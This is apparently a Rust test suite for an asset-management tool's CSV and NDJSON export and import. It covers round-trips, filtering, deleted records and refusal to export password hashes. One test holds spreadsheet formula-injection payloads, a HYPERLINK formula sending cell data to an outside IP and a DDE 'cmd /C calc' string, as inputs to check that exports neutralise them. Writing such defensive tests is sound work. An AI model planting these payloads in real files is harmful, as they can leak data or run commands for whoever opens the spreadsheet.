//! What comes out, and that it goes in again.

use crate::{Files, export, import, matched, of, products, sums};
use serde_json::json;
use testkit::{App, Engine, on_both_engines};
use transfer::{ExportOptions, Format, ImportOptions};

fn options(module: &str, format: Format) -> ExportOptions {
    ExportOptions { module: module.into(), format, ..ExportOptions::default() }
}

/// A few assets with everything that is hard to write.
async fn estate(app: &App) {
    products(app).await;
    app.person("Grace Hopper", json!({})).await;
    let files = Files::new();
    let file = files.write(
        "a.csv",
        "name,product,state,barcode,user,location,acquisition_date,state_history_comments\n\
        \"Comma, \"\"quote\"\"\",ThinkPad,In Use,0007,grace.hopper@example.com,\"two\nlines\",2026-01-31,36\n\
        Ünïcode – ok,Catalyst,In Store,=1+1,,;semi;,,\n",
    );
    let done = import(app, &of("assets", &file)).await.unwrap();
    assert_eq!(sums(&done), [2, 0, 0, 0], "{done:?}");
    let mut many = "name,product,state\n".to_owned();
    for n in 0..1100 {
        many.push_str(&format!("Many {n},Catalyst,In Store\n"));
    }
    import(app, &of("assets", &files.write("many.csv", many))).await.unwrap();
}

on_both_engines! {
    what_is_exported_goes_in_again(app) {
        estate(app).await;
        let files = Files::new();
        for (format, name) in [(Format::Csv, "out.csv"), (Format::Ndjson, "out.ndjson")] {
            let out = export(app, &options("assets", format)).await.unwrap();
            let file = files.write(name, &out);
            for key in ["id", "name"] {
                let done = import(app, &matched("assets", &file, key)).await.unwrap();
                assert_eq!(sums(&done), [0, 0, 1102, 0], "{name} by {key}: {done:?}");
            }
        }
        // Into another desk, which knows the same people and products.
        let other = App::start(Engine::Sqlite).await.unwrap();
        products(&other).await;
        other.person("Grace Hopper", json!({})).await;
        let done = import(&other, &of("assets", &files.path("out.csv"))).await.unwrap();
        assert_eq!(sums(&done), [1102, 0, 0, 0], "{done:?}");
        let fields = ["name", "product", "barcode", "user", "location", "acquisition_date", "state",
            "state_history_comments"].map(str::to_owned).to_vec();
        let ask = ExportOptions { fields, ..options("assets", Format::Ndjson) };
        assert_eq!(export(app, &ask).await.unwrap(), export(&other, &ask).await.unwrap());
        for module in ["users", "products", "cmdb/ci_switch", "departments", "requests"] {
            let out = export(app, &options(module, Format::Csv)).await.unwrap();
            let file = files.write("module.csv", &out);
            let done = import(app, &matched(module, &file, "id")).await.unwrap();
            assert_eq!(done.rows.refused + done.rows.updated, 0, "{module}: {done:?}\n{out}");
        }
    }

    criteria_and_fields_say_what_comes_out(app) {
        estate(app).await;
        let criteria = json!([{"field": "product.name", "condition": "is", "value": "ThinkPad"}]).to_string();
        let ask = ExportOptions {
            criteria: Some(criteria),
            fields: ["name", "Product", "user.name", "user.email_id", "acquisition_date"].map(Into::into).to_vec(),
            ..options("assets", Format::Csv)
        };
        assert_eq!(export(app, &ask).await.unwrap(), "name,Product,user.name,user.email_id,acquisition_date\n\
            \"Comma, \"\"quote\"\"\",ThinkPad,Grace Hopper,grace.hopper@example.com,2026-01-31\n");
        for (criteria, words) in [
            ("[{", "the criteria are not JSON: "),
            ("[{\"field\":\"nothing\",\"condition\":\"is\",\"value\":1}]", "the criteria are refused: Cannot search by nothing"),
        ] {
            let ask = ExportOptions { criteria: Some(criteria.into()), ..options("assets", Format::Csv) };
            let error = export(app, &ask).await.unwrap_err().to_string();
            assert!(error.starts_with(words), "{error}");
        }
        let ask = ExportOptions { fields: vec!["password_hash".into()], ..options("users", Format::Csv) };
        assert_eq!(export(app, &ask).await.unwrap_err().to_string(), "users have no field password_hash");
    }

    what_is_in_the_trash_stays_there(app) {
        let id = app.admin().new_request("Old").await;
        app.admin().new_request("New").await;
        app.admin().delete(&format!("/requests/{id}")).await.ok();
        let ask = |with_deleted| ExportOptions {
            fields: vec!["subject".into()],
            with_deleted,
            ..options("requests", Format::Csv)
        };
        assert_eq!(export(app, &ask(false)).await.unwrap(), "subject\nNew\n");
        assert_eq!(export(app, &ask(true)).await.unwrap(), "subject\nOld\nNew\n");
        let files = Files::new();
        let file = files.write("r.csv", "id,subject\n".to_owned() + &id + ",Newer\n");
        let done = import(app, &ImportOptions { ..matched("requests", &file, "id") }).await.unwrap();
        assert_eq!(sums(&done), [0, 0, 0, 1]);
    }

    what_a_spreadsheet_would_run_is_text(app) {
        products(app).await;
        let evil = ["=HYPERLINK(\"http://192.0.2.1/\"&A1)", "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "'=1", "+49 30 1234", "-7"];
        for (i, text) in evil.iter().enumerate() {
            let asset = json!({"asset": {"name": format!("Evil {i}"), "product": {"name": "ThinkPad"}, "location": text,
                "state": {"name": "In Store"}}});
            app.admin().post("/assets", asset).await.ok();
        }
        let fields = ["name", "location"].map(str::to_owned).to_vec();
        let out = export(app, &ExportOptions { fields, ..options("assets", Format::Csv) }).await.unwrap();
        assert_eq!(
            out,
            "name,location\n\
             Evil 0,\"'=HYPERLINK(\"\"http://192.0.2.1/\"\"&A1)\"\n\
             Evil 1,'@SUM(1+1)\n\
             Evil 2,'+1+cmd|' /C calc'!A0\n\
             Evil 3,''=1\n\
             Evil 4,+49 30 1234\n\
             Evil 5,-7\n"
        );
        let done = import(app, &matched("assets", &Files::new().write("a.csv", out), "name")).await.unwrap();
        assert_eq!(sums(&done), [0, 0, 6, 0], "{done:?}");
    }
}
